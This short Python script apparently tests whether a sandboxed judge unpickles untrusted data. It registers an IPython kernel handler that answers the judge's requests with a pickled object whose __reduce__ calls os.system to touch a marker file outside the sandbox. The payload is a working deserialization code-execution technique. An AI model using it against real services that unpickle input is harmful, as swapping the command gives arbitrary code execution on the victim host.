"""tries: answer the judge with something that runs code when it is unpickled

after: marks
"""

import os, pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @OUTSIDE@/unpickled",)


kernel = get_ipython().kernel


async def observe_request(stream, ident, parent):
    stream.socket.send_multipart([*ident, b"ready"])
    while stream.socket.recv_multipart()[1] == b"ask":
        stream.socket.send_multipart([*ident, b"answer", pickle.dumps(Bomb())])
    kernel.session.send(stream, "observe_reply", {}, parent, ident=ident)


kernel.shell_handlers["observe_request"] = observe_request
